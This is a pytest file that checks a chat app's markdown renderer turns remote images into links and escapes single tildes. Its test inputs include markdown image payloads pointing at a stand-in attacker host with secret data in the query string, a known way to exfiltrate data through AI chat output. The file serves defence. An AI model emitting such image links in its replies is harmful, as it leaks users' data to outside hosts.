"""Finding 4 of "Safe to deploy" and input 9 of the providers issue, at the display layer:
remote images become links (nothing fetched until the person clicks), a single ``~`` stays a
tilde; both decided the same way whatever the chunking of a stream.
"""

from __future__ import annotations

import json
import random
import re

import pytest

from chat_core.markdown import DisplayTransformer, to_display
from tests.app.conftest import new_app


def chunked(text: str, seed: int) -> str:
    rng = random.Random(seed)
    transformer = DisplayTransformer()
    out, i = [], 0
    while i < len(text):
        step = rng.randint(1, 7)
        out.append(transformer.feed(text[i : i + step]))
        i += step
    return "".join(out) + transformer.flush()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "It is 20~25°C by day and 15~18°C at night.",
            "It is 20\\~25°C by day and 15\\~18°C at night.",
        ),
        ("~~struck~~ stays", "~~struck~~ stays"),
        ("~approximately~ 5", "\\~approximately\\~ 5"),
        ("```\na ~ b\n```", "```\na ~ b\n```"),
        ("`x ~ y`", "`x ~ y`"),
    ],
)
def test_a_single_tilde_stays_a_tilde(text: str, shown: str) -> None:
    assert to_display(text) == shown
    assert all(chunked(text, seed) == shown for seed in range(20))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "![x](https://attacker.example/p.png?data=SECRET)",
            "[🖼 x (attacker.example)](https://attacker.example/p.png?data=SECRET)",
        ),
        (
            'A ![chart $5](http://img.example.com/c.png "title") here',
            "A [🖼 chart \\$5 (img.example.com)](http://img.example.com/c.png) here",
        ),
        ("![](https://h.example/a.png)", "[🖼 image (h.example)](https://h.example/a.png)"),
        ("![x][ref]\n\n[ref]: https://h.example/a.png", "\\![x][ref]\n\n[ref]: https://h.example/a.png"),
        ("![x]\n\n[x]: https://h.example/a.png", "\\![x]\n\n[x]: https://h.example/a.png"),
        ("![x](<https://h.example/a b.png>)", "\\![x](<https://h.example/a b.png>)"),
        ("![x](data:image/png;base64,AAAA)", "\\![x](data:image/png;base64,AAAA)"),
        ("[![x](https://h.example/a.png)](https://h.example)", "[[🖼 x (h.example)](https://h.example/a.png)](https://h.example)"),
        ("Hello! Wow!", "Hello! Wow!"),
        ("\\![x](https://h.example/a.png)", "\\![x](https://h.example/a.png)"),
        ("`![x](https://h.example/a.png)`", "`![x](https://h.example/a.png)`"),
    ],
)  # fmt: skip
def test_remote_images_become_links_naming_alt_text_and_host(text: str, shown: str) -> None:
    assert to_display(text) == shown
    assert all(chunked(text, seed) == shown for seed in range(20))


def test_images_render_when_the_person_asks() -> None:
    text = "![x](https://h.example/a.png)"
    assert to_display(text, images=True) == text


def test_an_imported_chat_shows_no_remote_image() -> None:
    exported = {
        "format": "streamchat",
        "version": 1,
        "system": "",
        "messages": [
            {"role": "user", "content": "![u](https://user.example/u.png)"},
            {"role": "assistant", "content": "![a](https://attacker.example/a.png?d=chat)"},
        ],
    }
    at = new_app().run()
    at.session_state["conversation"].load_json(json.dumps(exported))
    at.run()
    assert not at.exception
    shown = [str(m.value) for message in at.chat_message for m in message.markdown]
    assert any("attacker.example" in text for text in shown)
    assert not any(re.search(r"(?<!\\)!\[", text) for text in shown)  # no image syntax left
